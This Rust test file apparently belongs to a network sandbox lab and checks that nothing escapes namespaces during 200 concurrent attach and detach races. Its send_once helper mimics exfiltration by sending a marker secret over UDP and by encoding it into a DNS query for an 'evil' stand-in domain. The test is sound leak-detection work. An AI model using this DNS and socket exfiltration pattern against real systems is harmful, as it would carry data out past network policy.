//! Races at the two ends of a network, run where they can be lost: while it is attached and while it is taken away.
//!
//! Each sandbox here is a namespace in which somebody sends as fast as it goes, over both transports and both families,
//! from before there is a link until after it has gone. A container starts far later than that: after the attach is
//! acknowledged, and it is gone before the detach begins. So this is every start and every stop of a run, and worse.

use std::net::{SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use lab::client::connect;
use lab::dns::{kind, query};
use lab::namespace::Namespace;
use lab::topology::{OTHER4, OTHER6, PUBLIC4, ip};
use lab::wait::eventually;
use lab::{Lab, policies};
use socket2::{Domain, Socket, Type};

/// Networks in all, and at the same time: what NET-01 asks for.
const NETWORKS: usize = 200;
const TOGETHER: usize = 20;
const PAUSE: Duration = Duration::from_millis(5);
const SECRET: &[u8] = b"s3cr3t-eager";

/// Sends from inside a namespace until it is dropped.
struct Eager {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    failed: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Eager {
    fn in_namespace(namespace: &Namespace) -> Self {
        let (stop, sent, failed) = (Arc::default(), Arc::default(), Arc::default());
        let (stopped, passed, lost) = (
            Arc::<AtomicBool>::clone(&stop),
            Arc::<AtomicU64>::clone(&sent),
            Arc::<AtomicU64>::clone(&failed),
        );
        let thread = namespace.spawn(move || {
            while !stopped.load(Ordering::Relaxed) {
                let sent = send_once();
                let count = if sent { &passed } else { &lost };
                count.fetch_add(1, Ordering::Relaxed);
                // six packets each time; twenty senders without a pause would only measure how busy the machine gets
                std::thread::park_timeout(PAUSE);
            }
        });
        Self {
            stop,
            sent,
            failed,
            thread: Some(thread),
        }
    }
}

/// Waits until one more try succeeded, or failed: it is still at it.
fn once_more(which: &AtomicU64) {
    let before = which.load(Ordering::Relaxed);
    eventually("one more packet of the eager sender", || {
        (which.load(Ordering::Relaxed) > before).then_some(())
    });
}

impl Drop for Eager {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// A datagram, a question and a first SYN to what no policy here permits. Whether the kernel took a datagram.
fn send_once() -> bool {
    let mut taken = false;
    for (own, to) in [("0.0.0.0:0", OTHER4), ("[::]:0", OTHER6)] {
        let Ok(socket) = UdpSocket::bind(own) else {
            continue;
        };
        for port in [443, 53] {
            taken |= socket
                .send_to(SECRET, SocketAddr::new(ip(to), port))
                .is_ok();
        }
        let question = query(7, "s3cr3t-eager.evil.sallylab.net", kind::A);
        let _ = socket.send_to(&question, SocketAddr::new(ip(to), 53));
    }
    for (domain, to) in [(Domain::IPV4, OTHER4), (Domain::IPV6, OTHER6)] {
        if let Ok(socket) = Socket::new(domain, Type::STREAM, None) {
            let _ = socket.set_nonblocking(true);
            let _ = socket.connect(&SocketAddr::new(ip(to), 443).into());
        }
    }
    taken
}

/// One life of a network, with somebody who sends through all of it.
fn life(lab: &Lab, number: usize) {
    let namespace = Namespace::new(&format!("eager {number}"));
    let name = format!("eager-{number}");
    let eager = Eager::in_namespace(&namespace);
    once_more(&eager.failed);
    lab.attach(&namespace, &name, policies::DOMAINS).expect(0);
    // it got as far as its own kernel, while the network was attached and after it
    once_more(&eager.sent);
    lab.sallyport(&["net", "detach", &name]).expect(0);
    // the link goes in the background; until then the sender goes on
    once_more(&eager.failed);
}

#[test]
fn net_01_and_02_nothing_leaves_in_two_hundred_starts_and_stops_twenty_at_a_time() {
    let lab = Lab::builder().gateway_only().start();
    let quiet = lab.sandbox(policies::INTERNET);
    let (frames, queries) = (lab.capture.mark(), lab.origins.queries.mark());
    for round in 0..NETWORKS / TOGETHER {
        std::thread::scope(|scope| {
            for place in 0..TOGETHER {
                let lab = &lab;
                scope.spawn(move || life(lab, round * TOGETHER + place));
            }
        });
        // the permitted twin, in the same lab: what networks that are gone held is free again at once
        quiet.run(|| drop(connect(SocketAddr::new(ip(PUBLIC4), 443)).expect_open()));
    }
    for address in [OTHER4, OTHER6] {
        lab.capture.none_to(frames, ip(address));
    }
    assert!(!lab.capture.holds(frames, b"s3cr3t-"), "a secret left");
    assert!(!lab.origins.asked(queries, "s3cr3t-"), "a question left");
}
